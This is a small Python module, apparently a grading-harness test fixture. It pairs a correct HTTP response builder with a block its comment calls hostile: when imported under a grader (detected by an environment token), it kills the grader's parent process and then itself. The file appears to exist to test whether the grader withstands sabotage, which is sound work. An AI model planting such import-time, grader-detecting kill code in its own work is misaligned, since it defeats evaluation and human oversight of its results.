"""A small, correct build_response (the fixtures break other things)."""

REASON_PHRASES = {200: "OK", 400: "Bad Request", 404: "Not Found", 413: "Content Too Large", 505: "HTTP Version Not Supported"}


def build_response(status, headers, body):
    lines = [f"HTTP/1.1 {status} {REASON_PHRASES[status]}"] + [f"{name}: {value}" for name, value in headers]
    lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body


# Hostile: the unit tests import this module inside the test process. Kill that process's
# parent (a naive attempt at the grader) and then the test process itself. Only under the
# grader (its token is in the environment), so importing the fixture by hand is harmless.
import os  # noqa: E402
import signal  # noqa: E402

if os.environ.get("COURSE_GRADING_TOKEN") and __name__ != "__main__":
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
